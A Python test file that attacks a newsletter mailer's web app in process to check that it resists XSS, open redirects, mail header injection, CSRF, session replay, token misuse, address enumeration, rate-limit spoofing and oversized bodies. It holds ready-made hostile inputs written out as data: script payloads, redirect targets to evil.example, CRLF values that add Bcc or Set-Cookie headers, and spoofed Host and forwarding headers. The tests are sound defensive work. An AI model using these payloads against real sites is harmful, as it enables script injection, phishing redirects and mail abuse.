"""The web app as an attacker sees it: each test makes real requests against the app in process and asserts
the SAFE behaviour, so it passes when the app resists the attack and fails when it does not.

Drives the app like tests/test_web.py (httpx over ASGI, a real SQLite file, a CaptureServer relay), and reuses
its helpers. A few attacks need the ASGI app itself (a chosen client address, a proxy in front, the moment the
response is complete): `run_app` hands it over too.
"""
from __future__ import annotations

import asyncio
import csv
import io
import re
from email import message_from_bytes, policy
from typing import Any
from urllib.parse import urljoin, urlsplit
from xml.etree import ElementTree

import httpx
import pytest
from sqlalchemy import text
from starlette.applications import Starlette

from mailer.app import Mailer
from mailer.capture import CaptureServer
from mailer.settings import Settings
from mailer.web.security import Limits
from tests.test_web import (
    body_of,
    csrf_of,
    fill_signup,
    link_token,
    log_in,
    rows,
    run,
    run_app,
    send_issue,
    stamp_of,
    subscribed,
)

XSS = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
RAW_MARKUP = re.compile(r"<script>alert|<img src=x|onerror=alert\(2\)>|<svg onload")
ADMIN = ("redazione", "correct horse battery")

def no_raw_markup(html: str, where: str) -> None:
    found = RAW_MARKUP.search(html)
    assert found is None, f"{where}: unescaped markup {found.group(0)!r} in the page"


def confirm_link(relay: CaptureServer, index: int = -1) -> str:
    return re.search(r"http://localhost:8000(/confirm/\S+)", body_of(relay.messages[index].data)).group(1)  # type: ignore[union-attr]


async def as_operator(client: httpx.AsyncClient, mailer: Mailer) -> None:
    mailer.add_admin_user(*ADMIN)
    assert (await log_in(client)).status_code == 303


async def raw_get(client: httpx.AsyncClient, raw_path: bytes) -> httpx.Response:
    """A GET with the path exactly as given (httpx would otherwise normalise '//host' or '..')."""
    request = client.build_request("GET", "/")
    request.url = request.url.copy_with(raw_path=raw_path)
    return await client.send(request)


def list_id(mailer: Mailer, name: str = "work-in-progress") -> int:
    (found,), = rows(mailer, "SELECT id FROM mailing_list WHERE name = :n", n=name)
    return int(found)


# ================================================================================================
# Stored and reflected XSS
# ================================================================================================

def test_a_script_in_a_subscribers_name_is_escaped_on_every_operator_page(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        assert (await fill_signup(client, name=f"Ines {XSS}")).status_code == 200
        assert (await client.post(confirm_link(relay))).status_code == 200
        (sid, name), = rows(mailer, "SELECT id, name FROM subscriber")
        assert "<script>" in name  # stored as typed: escaping is the page's job
        await as_operator(client, mailer)
        for path in ("/admin/subscribers?q=ines", "/admin/subscribers?q=script", f"/admin/subscribers/{sid}"):
            page = await client.get(path)
            assert page.status_code == 200, path
            no_raw_markup(page.text, path)
            assert "&lt;script&gt;" in page.text, path
    run(settings, scenario)


def test_reflected_form_values_are_escaped(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        refused = await fill_signup(client, email=f"x{XSS}@example.org", name=XSS)
        assert refused.status_code == 400
        no_raw_markup(refused.text, "/subscribe (invalid address)")
        no_consent = await fill_signup(client, name=XSS, consent="")
        assert no_consent.status_code == 400
        no_raw_markup(no_consent.text, "/subscribe (no consent)")
        stamp = stamp_of((await client.get("/unsubscribe")).text)
        bot = await client.post("/unsubscribe", data={"email": XSS, "stamp": stamp, "website": "filled"})
        assert bot.status_code == 400
        no_raw_markup(bot.text, "/unsubscribe (honeypot)")
        assert relay.messages == []
    run(settings, scenario)


def test_list_titles_with_markup_are_escaped_on_every_recipients_page(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("ada@example.org", "work-in-progress")
        with mailer.engine.begin() as conn:
            conn.execute(text("UPDATE mailing_list SET title = :t"), {"t": f"WiP {XSS}"})
        (sid,), = rows(mailer, "SELECT id FROM subscriber")
        unsubscribe, manage = f"/u/{link_token(mailer, 'ada@example.org')}", f"/preferences/{mailer.signer.manage_token(sid, 0)}"
        for method, path in (("GET", "/subscribe"), ("GET", unsubscribe), ("GET", manage), ("POST", unsubscribe)):
            page = await client.request(method, path)
            assert page.status_code == 200, path
            no_raw_markup(page.text, f"{method} {path}")
        assert (await fill_signup(client, email="bea@example.org")).status_code == 200
        confirm = confirm_link(relay)
        for method in ("GET", "POST"):
            page = await client.request(method, confirm)
            assert page.status_code == 200
            no_raw_markup(page.text, f"{method} /confirm")
    run(settings, scenario)


def test_smtp_replies_with_markup_are_escaped_in_reports_charts_and_history(settings: Settings) -> None:
    evil_reply = "550 5.1.1 <script>alert(1)</script> \"><svg onload=alert(3)> <img src=x onerror=alert(2)>"

    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        campaign_id = await send_issue(mailer, ["ok@example.org", "evil@example.org"])
        assert rows(mailer, "SELECT count(*) FROM bounce_event WHERE reason LIKE '%<script>%'") == [(1,)]
        (sid,), = rows(mailer, "SELECT id FROM subscriber WHERE email = 'evil@example.org'")
        await as_operator(client, mailer)
        for path in (f"/admin/campaigns/{campaign_id}", "/admin/bounces", f"/admin/subscribers/{sid}", "/admin/"):
            page = await client.get(path)
            assert page.status_code == 200, path
            no_raw_markup(page.text, path)
        report = (await client.get(f"/admin/campaigns/{campaign_id}")).text
        assert "&lt;script&gt;" in report  # shown, as text
    run(settings, scenario, rule=lambda r: evil_reply if r.startswith("evil") else None)


def test_the_search_parameter_is_escaped(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        await as_operator(client, mailer)
        page = await client.get("/admin/subscribers", params={"q": XSS})
        assert page.status_code == 200
        no_raw_markup(page.text, "/admin/subscribers?q=")
        assert "&#34;&gt;&lt;script&gt;" in page.text or "&quot;&gt;&lt;script&gt;" in page.text
    run(settings, scenario)


REFLECTED = [
    b"/nope%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    b"/u/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    b"/confirm/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    b"/admin/login?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    b"/subscribe?lang=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    b"/archive/%3Cscript%3Ealert(1)%3C%2Fscript%3E/",
]


def test_paths_and_queries_reflected_in_pages_are_escaped(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        for raw_path in REFLECTED:
            page = await raw_get(client, raw_path)
            if page.status_code == 307:  # Starlette's trailing-slash redirect; follow it
                assert "<" not in page.headers["location"] and '"' not in page.headers["location"]
                page = await client.get(page.headers["location"])
            assert page.status_code in (200, 400, 404), raw_path
            no_raw_markup(page.text, raw_path.decode())
    run(settings, scenario)


@pytest.mark.parametrize("raw_path", [b"//evil.example/", b"/%5Cevil.example/", b"//evil.example/%2e%2e"])
def test_links_on_an_error_page_never_lead_to_another_site(settings: Settings, raw_path: bytes) -> None:
    """A link to https://our.site//evil.example shows our 404 page; its own links (the language switch) must
    stay on our site. Browsers read '//host' and '/\\host' in an href as another host."""
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        page = await raw_get(client, raw_path)
        assert page.status_code == 404
        for href in re.findall(r'(?:href|action)="([^"]*)"', page.text):
            resolved = urljoin("https://news.example.org/x", href.replace("\\", "/").replace("&amp;", "&"))
            host = urlsplit(resolved).hostname
            assert host in ("news.example.org", "www.comune.torino.it"), f"{href!r} leads to {host}"
    run(settings, scenario)


def test_redirects_never_point_to_the_host_a_request_claims(settings: Settings) -> None:
    """Starlette's trailing-slash redirect is absolute and built from the Host header: behind a proxy that
    passes any Host (or a cache keyed without it) that sends visitors to another site."""
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        for path in ("/archive/work-in-progress", "/archive", "/subscribe/", "/admin"):
            response = await client.get(path, headers={"Host": "evil.example"})
            location = response.headers.get("location", "")
            assert "evil.example" not in location, f"{path} -> {response.status_code} {location}"
    run(settings, scenario)


# ================================================================================================
# Open redirect on login
# ================================================================================================

NEXT_TARGETS = [
    "//evil.example", "/\\evil.example", "https://evil.example", "http:evil.example", "/\t/evil.example",
    "/admin/\r\nSet-Cookie: pwned=1", "javascript:alert(1)", "/admin@evil.example", "///evil.example/admin/",
    "/%2F%2Fevil.example", "/admin/../\\evil.example", '"><script>alert(1)</script>',
]


def test_the_login_never_redirects_to_another_site(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_admin_user(*ADMIN)
        for target in NEXT_TARGETS:
            client.cookies.clear()
            page = await client.get("/admin/login", params={"next": target})
            no_raw_markup(page.text, f"login?next={target!r}")
            response = await client.post("/admin/login", params={"next": target},
                                         data={"username": ADMIN[0], "password": ADMIN[1], "csrf": csrf_of(page.text)})
            assert response.status_code == 303, target
            location = response.headers["location"]
            assert "\r" not in location and "\n" not in location and "pwned" not in response.headers.get("set-cookie", "")
            resolved = urljoin("https://news.example.org/admin/login", location.replace("\\", "/").replace("\t", ""))
            assert urlsplit(resolved).hostname == "news.example.org" and urlsplit(resolved).scheme == "https", (target, location)
            assert location.startswith("/admin/"), (target, location)
    run(settings, scenario, limits=Limits(min_fill_seconds=0, login_per_client="100/minute", login_per_user="100/minute"))


def test_the_login_still_returns_to_the_admin_page_asked_for(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_admin_user(*ADMIN)
        bounced = await client.get("/admin/subscribers")
        assert bounced.headers["location"] == "/admin/login?next=/admin/subscribers"
        page = await client.get(bounced.headers["location"])
        response = await client.post(bounced.headers["location"], data={"username": ADMIN[0], "password": ADMIN[1], "csrf": csrf_of(page.text)})
        assert response.headers["location"] == "/admin/subscribers"
    run(settings, scenario)


# ================================================================================================
# Header injection into mails
# ================================================================================================

BAD_ADDRESSES = [
    "ines@example.org\r\nBcc: victim@example.org",
    "ines@example.org\nBcc: victim@example.org",
    "ines@example.org, victim@example.org",
    '"ines\r\nBcc: victim@example.org"@example.org',
    "ines@example.org>\r\nRCPT TO:<victim@example.org",
    "Ines <ines@example.org>",
]


def test_line_breaks_and_lists_in_an_address_send_nothing(settings: Settings) -> None:
    limits = Limits(min_fill_seconds=0, form_per_client="100/hour")

    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("ines@example.org", "eventi")  # known, so the unsubscribe form would mail her
        for email in BAD_ADDRESSES:
            assert (await fill_signup(client, email=email)).status_code == 400, email
            stamp = stamp_of((await client.get("/unsubscribe")).text)
            assert (await client.post("/unsubscribe", data={"email": email, "stamp": stamp})).status_code == 200, email
        assert relay.messages == [] and rows(mailer, "SELECT count(*) FROM notice") == [(0,)]
    run(settings, scenario, limits=limits)


@pytest.mark.parametrize("name", [
    "Ines\r\nBcc: victim@example.org",
    "Ines\nSubject: you won",
    'Evil <ceo@comune.example>, "Boss" <boss@comune.example>',
    "=?utf-8?q?=0D=0ABcc:_victim@example.org?=",
    "Ines " + "x" * 90 + ' "<ceo@comune.example>", \r\nBcc: victim@example.org',
])
def test_a_name_cannot_add_headers_or_recipients_to_any_mail(settings: Settings, name: str) -> None:
    """The name goes nowhere in the notices, and into the To: header of every issue after confirmation."""
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        assert (await fill_signup(client, name=name)).status_code == 200
        assert (await client.post(confirm_link(relay))).status_code == 200
        (stored,), = rows(mailer, "SELECT name FROM subscriber")
        assert "\r" not in stored and "\n" not in stored
        await send_issue(mailer, [])
        for received in relay.messages:
            assert received.recipients == ["ines@example.org"]
            message = message_from_bytes(received.data, policy=policy.default)
            assert message["Bcc"] is None and message["Cc"] is None
            assert [a.addr_spec for a in message["To"].addresses] == ["ines@example.org"]
            assert message.get_all("Subject") and len(message.get_all("Subject")) == 1
            assert b"\r\nBcc:" not in received.data and b"\nSubject: you won" not in received.data
    run(settings, scenario)


def test_the_links_in_notices_ignore_the_host_header(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("gina@example.org", "work-in-progress")
        evil = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}
        stamp = stamp_of((await client.get("/unsubscribe", headers=evil)).text)
        await client.post("/unsubscribe", data={"email": "gina@example.org", "stamp": stamp}, headers=evil)
        await fill_signup(client, email="new@example.org")
        assert len(relay.messages) == 2
        for received in relay.messages:
            body = body_of(received.data)
            assert "evil.example" not in body and "http://localhost:8000/" in body
    run(settings, scenario)


# ================================================================================================
# CSRF, sessions, the admin cookie
# ================================================================================================

def test_admin_posts_need_the_sessions_own_csrf_token(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer, app: Starlette) -> None:
        mailer.add_admin_user(*ADMIN)
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as attacker:
            attackers_token = csrf_of((await attacker.get("/admin/login")).text)
        # a cross-site form post: SameSite=Strict means no cookie, so no session and no token to match
        forged = await client.post("/admin/login", data={"username": ADMIN[0], "password": ADMIN[1], "csrf": attackers_token})
        assert forged.status_code == 403
        assert (await client.post("/admin/login", data={"username": ADMIN[0], "password": ADMIN[1]})).status_code == 403
        await log_in(client)
        page = await client.get("/admin/")
        assert page.status_code == 200
        for data in ({}, {"csrf": ""}, {"csrf": attackers_token}, {"csrf": csrf_of(page.text)[:-1]}):
            assert (await client.post("/admin/logout", data=data)).status_code == 403
        assert (await client.get("/admin/")).status_code == 200  # still signed in
        assert (await client.get("/admin/logout")).status_code == 405  # GET changes nothing
        for path in ("/admin/", "/admin/bounces", "/admin/subscribers"):
            assert (await client.post(path, data={"csrf": csrf_of(page.text)})).status_code == 405
    run_app(settings, scenario)


def test_login_starts_a_new_session_so_a_planted_cookie_gives_nothing(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer, app: Starlette) -> None:
        mailer.add_admin_user(*ADMIN)
        await client.get("/admin/login")
        planted = client.cookies["mailer_admin"]  # the attacker's pre-login cookie, planted in the victim's browser
        response = await log_in(client)
        assert response.status_code == 303
        assert client.cookies["mailer_admin"] != planted
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as attacker:
            assert (await attacker.get("/admin/", headers={"Cookie": f"mailer_admin={planted}"})).status_code == 303
        cookie = response.headers["set-cookie"].lower()
        assert "httponly" in cookie and "samesite=strict" in cookie and "path=/admin" in cookie and "max-age=28800" in cookie
    run_app(settings, scenario)


def test_a_session_cookie_copied_before_logout_is_dead_after_it(settings: Settings) -> None:
    """Logout must end the session on the server too: a cookie stolen before (a shared PC, a proxy log, a
    backup of the browser profile) must not keep working for the rest of its 8 hours."""
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer, app: Starlette) -> None:
        await as_operator(client, mailer)
        page = await client.get("/admin/")
        stolen = client.cookies["mailer_admin"]
        assert (await client.post("/admin/logout", data={"csrf": csrf_of(page.text)})).status_code == 303
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as thief:
            replay = await thief.get("/admin/subscribers?q=a", headers={"Cookie": f"mailer_admin={stolen}"})
        assert replay.status_code == 303, "the old session cookie still opens /admin/ after logout"
    run_app(settings, scenario)


def test_a_password_reset_ends_the_sessions_opened_with_the_old_password(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer, app: Starlette) -> None:
        await as_operator(client, mailer)
        stolen = client.cookies["mailer_admin"]
        mailer.add_admin_user(ADMIN[0], "a brand new long password")  # `mailer admin add-user` after a leak
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as thief:
            replay = await thief.get("/admin/", headers={"Cookie": f"mailer_admin={stolen}"})
        assert replay.status_code == 303, "a session opened with the old password survives the reset"
    run_app(settings, scenario)


def test_the_admin_cookie_never_goes_to_public_pages_and_public_posts_ignore_sessions(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("ugo@example.org", "work-in-progress")
        await as_operator(client, mailer)
        assert "mailer_admin" in client.cookies
        token = link_token(mailer, "ugo@example.org")
        for method, path in (("GET", "/subscribe"), ("GET", "/archive/work-in-progress/"), ("GET", f"/u/{token}"),
                             ("POST", f"/u/{token}"), ("GET", "/static/site.css"), ("GET", "/administrator"),
                             ("GET", "/adminx/")):
            response = await client.request(method, path)
            assert "cookie" not in response.request.headers, f"the admin cookie went to {path}"
            assert "set-cookie" not in response.headers, path
        # an operator's browser posting /u/TOKEN unsubscribes the token's owner, and nobody else
        assert not subscribed(mailer, "ugo@example.org")
        assert rows(mailer, "SELECT method FROM subscriber_event WHERE kind = 'unsubscribed'") == [("page",)]
        assert (await client.get("/admin/")).status_code == 200  # the operator's session is untouched
    run(settings, scenario)


def test_the_session_cookie_is_secure_and_hsts_is_sent_over_https(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        page = await client.get("/admin/login")
        assert "secure" in page.headers["set-cookie"].lower()
        assert page.headers["strict-transport-security"].startswith("max-age=")
    run(settings.with_overrides(base_url="https://news.example.org"), scenario)


def test_the_per_user_login_limit_cannot_be_dodged_by_spelling_the_username_differently(settings: Settings) -> None:
    """5 tries per username stop a password-guessing botnet (many clients, one account). Spaces around the
    name are ignored by the check of the password, so they must not make a fresh limit either."""
    limits = Limits(login_per_client="100/15 minutes", login_per_user="3/15 minutes")

    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_admin_user(*ADMIN)
        assert [(await log_in(client, password="wrong password!")).status_code for _ in range(3)] == [401] * 3
        assert (await log_in(client)).status_code == 429
        for variant in (" redazione", "redazione ", "\tredazione", "redazione\n", "REDAZIONE"):
            response = await log_in(client, username=variant)
            assert response.status_code == 429, f"{variant!r} got a fresh limit and logged in ({response.status_code})"
    run(settings, scenario, limits=limits)


# ================================================================================================
# Tokens
# ================================================================================================

def test_no_token_works_for_another_purpose(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("eva@example.org", "work-in-progress")
        (sid,), = rows(mailer, "SELECT id FROM subscriber")
        from subscribers.tokens import Signup

        tokens = {
            "unsubscribe": link_token(mailer, "eva@example.org"),
            "manage": mailer.signer.manage_token(sid, 0),
            "unsubscribe-link": mailer.signer.unsubscribe_link_token(sid, 0),
            "signup": mailer.signer.signup_token(Signup("eva@example.org", "Eva", "it", (list_id(mailer),), "x")),
            "form": mailer.signer.form_stamp(),
            "bounce": mailer.signer.bounce_tag(sid),
        }
        accepts = {"/u/": "unsubscribe", "/unsubscribe/": "unsubscribe-link", "/preferences/": "manage", "/confirm/": "signup"}
        for prefix, own in accepts.items():
            for kind, token in tokens.items():
                if kind == own:
                    continue
                for method in ("GET", "POST"):
                    response = await client.request(method, prefix + token, data={"List-Unsubscribe": "One-Click", "action": "leave"})
                    assert response.status_code == 400, (method, prefix, kind, response.status_code)
        assert subscribed(mailer, "eva@example.org")
        stamp_as_token = await client.post("/unsubscribe", data={"email": "eva@example.org", "stamp": tokens["unsubscribe"]})
        assert stamp_as_token.status_code == 400  # a link token is no form stamp either
    run(settings, scenario)


def test_a_replayed_confirmation_does_not_resubscribe_someone_who_left(settings: Settings) -> None:
    """The confirmation link lives 7 days. Ines confirms, then unsubscribes; whoever reads her old mail (a
    shared mailbox, a forwarded message, a link-following scanner that POSTs) clicks it again. She said no
    last: that must stand. Only a new request (a new link, mailed anew) brings her back."""
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        await fill_signup(client)
        link = confirm_link(relay)
        assert (await client.post(link)).status_code == 200 and subscribed(mailer, "ines@example.org")
        await asyncio.sleep(1.1)  # token times are whole seconds; a person takes longer than that anyway
        assert (await client.post(f"/u/{link_token(mailer, 'ines@example.org')}")).status_code == 200
        assert not subscribed(mailer, "ines@example.org")
        replay = await client.post(link)
        assert not subscribed(mailer, "ines@example.org"), "the old confirmation link subscribed her again"
        assert replay.status_code == 400
    run(settings, scenario)


def test_a_replayed_confirmation_does_not_undo_a_complaint(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        await fill_signup(client)
        link = confirm_link(relay)
        await client.post(link)
        await asyncio.sleep(1.1)  # token times are whole seconds
        from subscribers import store
        from subscribers.models import SubscriberStatus

        (sid,), = rows(mailer, "SELECT id FROM subscriber")
        with mailer.engine.begin() as conn:
            store.suppress(conn, sid, SubscriberStatus.COMPLAINED, method="complaint")  # she marked an issue as spam
        await client.post(link)
        assert rows(mailer, "SELECT status FROM subscriber") == [("complained",)], "an old link undid a spam complaint"
    run(settings, scenario)


def test_an_old_preferences_link_does_not_resubscribe_someone_who_left(settings: Settings) -> None:
    """The preferences link never expires and is in the footer of every issue, so it travels with every
    forwarded or archived copy. Leaving through it is fine (that is what it is for); coming back after an
    unsubscribe or a spam complaint through it re-opens mail to her on the say-so of whoever holds the old
    message, with no fresh consent on record. Coming back should go through a new confirmation mail."""
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("ada@example.org", "work-in-progress")
        (sid,), = rows(mailer, "SELECT id FROM subscriber")
        preferences = f"/preferences/{mailer.signer.manage_token(sid, 0)}"
        assert (await client.post(f"/u/{link_token(mailer, 'ada@example.org')}")).status_code == 200
        await client.post(preferences, data={"language": "it", "lists": str(list_id(mailer)), "action": "save"})
        assert not subscribed(mailer, "ada@example.org"), "a forwarded issue's footer link re-subscribed her"
    run(settings, scenario)


def test_a_stranger_cannot_rename_a_subscriber_through_a_signup_she_confirms(settings: Settings) -> None:
    """Anyone may ask to add lists to a known address, with a name and language of their choosing. The
    confirmation page shows only the address and the lists, so the owner cannot see that confirming also
    replaces her name (it goes into the To: header of every issue) and her language."""
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("lia@example.org", "eventi", name="Lia Bianchi", language="it")  # on another list
        await fill_signup(client, email="lia@example.org", name="Scammer: call +39 000 to verify", language="en")
        preview = await client.get(confirm_link(relay))
        assert (await client.post(confirm_link(relay))).status_code == 200 and subscribed(mailer, "lia@example.org")
        (name, language), = rows(mailer, "SELECT name, language FROM subscriber")
        shown = "Scammer" in preview.text
        assert shown or (name, language) == ("Lia Bianchi", "it"), f"renamed to {name!r} ({language}) without being shown"
    run(settings, scenario)


def test_the_login_answers_the_same_for_an_unknown_user_and_a_wrong_password(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_admin_user(*ADMIN)
        known = await log_in(client, username="redazione", password="wrong password!")
        unknown = await log_in(client, username="nessuno00", password="wrong password!")
        assert known.status_code == unknown.status_code == 401
        assert known.text.replace("redazione", "nessuno00") == unknown.text
    run(settings, scenario)


def test_an_unsubscribe_token_keeps_working_only_until_links_are_revoked(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("rita@example.org", "work-in-progress")
        token = link_token(mailer, "rita@example.org")
        (sid,), = rows(mailer, "SELECT id FROM subscriber")
        manage = mailer.signer.manage_token(sid, 0)
        with mailer.engine.begin() as conn:
            conn.execute(text("UPDATE subscriber SET token_version = 1"))
        for path in (f"/u/{token}", f"/preferences/{manage}"):
            assert (await client.post(path, data={"action": "leave"})).status_code == 400
        assert subscribed(mailer, "rita@example.org")
    run(settings, scenario)


# ================================================================================================
# Enumeration
# ================================================================================================

def test_subscribe_answers_the_same_for_new_known_and_limited_addresses(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("known@example.org", "work-in-progress")
        await fill_signup(client, email="limited@example.org")  # its one confirmation of the day
        answers = set()
        for email in ("new@example.org", "known@example.org", "limited@example.org", "KNOWN@Example.org"):
            response = await fill_signup(client, email=email)
            answers.add((response.status_code, response.text, tuple(sorted(k for k in response.headers if k != "content-length"))))
        assert len(answers) == 1
    run(settings, scenario)


@pytest.mark.parametrize("form", ["/unsubscribe", "/subscribe"])
def test_nothing_is_looked_up_or_recorded_before_the_answer(settings: Settings, form: str) -> None:
    """What could make a known address answer slower than an unknown one (the lookup, the notice row, the
    signed link) happens after the response is complete: when it is, no notice is on record yet."""
    limits = Limits(min_fill_seconds=0, form_per_client="1000/hour", form_per_address="1000/hour")

    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer, app: Starlette) -> None:
        mailer.add_subscriber("known0@example.org", "work-in-progress")
        stamp = mailer.signer.form_stamp()
        email = "known0" if form == "/unsubscribe" else "new0"
        body = f"email={email}%40example.org&stamp={stamp}&website=&name=X&language=it&consent=yes&lists={list_id(mailer)}".encode()
        seen: list[int] = []

        async def on_complete() -> None:
            seen.extend([rows(mailer, "SELECT count(*) FROM notice")[0][0], len(relay.messages)])

        status = await asgi_post_watching(app, form, body, on_complete)
        assert status == 200 and seen == [0, 0]  # nothing on record, nothing mailed when the answer was complete
        assert rows(mailer, "SELECT count(*) FROM notice")[0][0] == 1 and len(relay.messages) == 1  # done afterwards
    run_app(settings, scenario, limits=limits)


async def asgi_post_watching(app: Starlette, path: str, body: bytes, on_complete: Any) -> int:
    """POST straight to the ASGI app and call on_complete() the moment the response body is complete."""
    sent, status = False, 0

    async def receive() -> dict[str, Any]:
        nonlocal sent
        if not sent:
            sent = True
            return {"type": "http.request", "body": body, "more_body": False}
        await asyncio.sleep(3600)
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]
        elif message["type"] == "http.response.body" and not message.get("more_body", False):
            await on_complete()

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
        "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
        "headers": [(b"host", b"testserver"), (b"content-type", b"application/x-www-form-urlencoded"),
                    (b"content-length", str(len(body)).encode())],
        "client": ("192.0.2.1", 40000), "server": ("testserver", 80), "state": {},
    }
    await app(scope, receive, send)
    return status


# ================================================================================================
# Rate limits and the client's address
# ================================================================================================

def test_x_forwarded_for_from_a_client_does_not_buy_a_fresh_rate_limit(settings: Settings) -> None:
    limits = Limits(min_fill_seconds=0, form_per_client="3/hour", form_per_address="100/hour")

    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer, app: Starlette) -> None:
        from uvicorn.middleware.proxy_headers import ProxyHeadersMiddleware

        stamp = mailer.signer.form_stamp()

        async def burst(c: httpx.AsyncClient) -> list[int]:
            codes = []
            for n in range(5):
                spoof = {"X-Forwarded-For": f"198.51.100.{n}", "X-Real-IP": f"198.51.100.{n}", "Forwarded": f"for=198.51.100.{n}"}
                codes.append((await c.post("/unsubscribe", data={"email": f"p{n}@example.org", "stamp": stamp}, headers=spoof)).status_code)
            return codes

        assert await burst(client) == [200, 200, 200, 429, 429]  # the app alone: the header is ignored
        # as `mailer serve` runs it: uvicorn's proxy headers, trusting only 127.0.0.1
        proxied = ProxyHeadersMiddleware(app, trusted_hosts="127.0.0.1")  # type: ignore[arg-type]
        direct = httpx.ASGITransport(app=proxied, client=("203.0.113.7", 5555))  # type: ignore[arg-type]
        async with httpx.AsyncClient(transport=direct, base_url="http://testserver") as outsider:
            assert await burst(outsider) == [200, 200, 200, 429, 429]
    run_app(settings, scenario, limits=limits)


def test_behind_the_trusted_proxy_a_spoofed_first_hop_is_ignored(settings: Settings) -> None:
    limits = Limits(min_fill_seconds=0, form_per_client="3/hour", form_per_address="100/hour")

    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer, app: Starlette) -> None:
        from uvicorn.middleware.proxy_headers import ProxyHeadersMiddleware

        stamp = mailer.signer.form_stamp()
        proxied = ProxyHeadersMiddleware(app, trusted_hosts="127.0.0.1")  # type: ignore[arg-type]
        via_proxy = httpx.ASGITransport(app=proxied, client=("127.0.0.1", 5555))  # type: ignore[arg-type]
        async with httpx.AsyncClient(transport=via_proxy, base_url="http://testserver") as c:
            codes = []
            for n in range(5):  # the proxy appends the real client (203.0.113.7) to what the client sent
                headers = {"X-Forwarded-For": f"10.0.0.{n}, 203.0.113.7"}
                codes.append((await c.post("/unsubscribe", data={"email": f"p{n}@example.org", "stamp": stamp}, headers=headers)).status_code)
        assert codes == [200, 200, 200, 429, 429]
    run_app(settings, scenario, limits=limits)


# ================================================================================================
# Bodies and odd input
# ================================================================================================

def test_oversized_bodies_are_refused_even_without_a_length(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("zoe@example.org", "work-in-progress")
        (sid,), = rows(mailer, "SELECT id FROM subscriber")
        paths = ["/subscribe", "/unsubscribe", f"/u/{link_token(mailer, 'zoe@example.org')}", "/admin/login",
                 f"/preferences/{mailer.signer.manage_token(sid, 0)}", f"/unsubscribe/{mailer.signer.unsubscribe_link_token(sid, 0)}"]

        async def chunks():  # type: ignore[no-untyped-def]
            yield b"List-Unsubscribe=One-Click&action=leave&a="
            for _ in range(40):
                yield b"x" * 8192

        for path in paths:
            streamed = await client.post(path, content=chunks(), headers={"content-type": "application/x-www-form-urlencoded"})
            assert streamed.status_code == 413, (path, streamed.status_code)
